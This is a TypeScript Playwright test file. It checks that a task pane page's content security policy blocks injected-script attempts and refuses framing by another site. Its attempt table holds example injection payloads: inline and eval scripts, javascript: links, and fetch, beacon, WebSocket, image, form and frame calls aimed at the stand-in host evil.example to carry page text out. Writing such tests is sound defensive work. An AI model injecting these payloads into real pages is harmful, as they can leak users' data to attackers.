import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { PATIENCE_MS } from '#test/setup/patience.ts';
import { useStage } from '../stage/use-stage.ts';

const EVIL = 'https://evil.example';

/** What an injected script could try, and the directives of the policy that stop it. */
const ATTEMPTS: Readonly<Record<string, readonly [attempt: string, directive: string]>> = {
  'run a script that is written into the page': [
    `const script = document.createElement('script'); script.textContent = 'window.ran = true'; document.head.append(script)`,
    'script-src-elem',
  ],
  'load a script from elsewhere': [
    `const script = document.createElement('script'); script.src = '${EVIL}/a.js'; document.head.append(script)`,
    'script-src-elem',
  ],
  'run an attribute': [
    `const image = document.createElement('img'); image.setAttribute('onerror', 'window.ran = true'); image.src = '/none'; document.body.append(image)`,
    'script-src-attr',
  ],
  'evaluate a text': [`setTimeout(() => { try { window.ran = eval('true') } catch {} })`, 'script-src'],
  'follow a javascript: address': [
    `const link = document.createElement('a'); link.href = 'javascript:void(window.ran = true)'; document.body.append(link); link.click()`,
    'script-src-elem',
  ],
  'start a worker from a text': [
    `new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })))`,
    'worker-src',
  ],
  'call another site': [`fetch('${EVIL}/?client-text').catch(() => undefined)`, 'connect-src'],
  'open a socket to another site': [`try { new WebSocket('wss://evil.example/') } catch {}`, 'connect-src'],
  'send a beacon to another site': [`navigator.sendBeacon('${EVIL}/', 'client-text')`, 'connect-src'],
  'load an image from another site': [`new Image().src = '${EVIL}/a.png?client-text'`, 'img-src'],
  'frame another site': [
    `const frame = document.createElement('iframe'); frame.src = '${EVIL}/'; document.body.append(frame)`,
    'frame-src',
  ],
  'embed another site': [
    `const object = document.createElement('object'); object.data = '${EVIL}/'; document.body.append(object)`,
    'object-src',
  ],
  'load a font from another site': [
    `new FontFace('a', 'url(${EVIL}/a.woff2)').load().catch(() => undefined)`,
    'font-src',
  ],
  'add a style without the page’s nonce': [
    `const style = document.createElement('style'); style.textContent = 'body { background: red }'; document.head.append(style)`,
    'style-src-elem',
  ],
  'move the addresses of the page': [
    `const base = document.createElement('base'); base.href = '${EVIL}/'; document.head.append(base)`,
    'base-uri',
  ],
  'post a form': [
    `const form = document.createElement('form'); form.action = '${EVIL}/'; form.method = 'post'; document.body.append(form); form.submit()`,
    'form-action',
  ],
};

describe('the content security policy in Chromium', () => {
  const stage = useStage();
  let context: BrowserContext;
  let page: Page;
  /** Addresses at the other site that the browser asked for. */
  const asked: string[] = [];
  beforeAll(async () => {
    context = await stage.browser.newContext();
    context.setDefaultTimeout(PATIENCE_MS);
    await context.route('**', async (route) => {
      const { host } = new URL(route.request().url());
      if (host === 'evil.example') asked.push(route.request().url());
      // Microsoft's office.js is not needed here, and is not asked for.
      if (/^(localhost|127\.0\.0\.1)(:|$)/.test(host)) await route.continue();
      else await route.abort();
    });
    page = await context.newPage();
    await page.goto(`${stage.relay.origin}/taskpane.html`);
  });
  it.each(Object.entries(ATTEMPTS))('lets nobody %s', async (_what, [attempt, directive]) => {
    await page.evaluate(
      ([script, expected]) =>
        new Promise<void>((resolve) => {
          document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
            if (effectiveDirective === expected) resolve();
          });
          // The policy does not apply to what a debugger evaluates, but to everything that this starts.
          // oxlint-disable-next-line no-implied-eval -- an attempt is a string, since types forbid some of them
          new Function(script)();
        }),
      [attempt, directive] as const,
    );
    expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
    expect(asked).toEqual([]);
  });

  it('does not let a strange site frame the pane', async () => {
    const site = createServer((_request, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(`<iframe src="${stage.relay.origin}/taskpane.html"></iframe>`);
    });
    site.listen(0, '127.0.0.1');
    await once(site, 'listening');
    const framing = await context.newPage();
    const refused = framing.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
    await framing.goto(`http://localhost:${(site.address() as AddressInfo).port}/`);
    await refused;
    expect(framing.frames().map((frame) => frame.url())).not.toContain(`${stage.relay.origin}/taskpane.html`);
    site.closeAllConnections();
    site.close();
  });
});
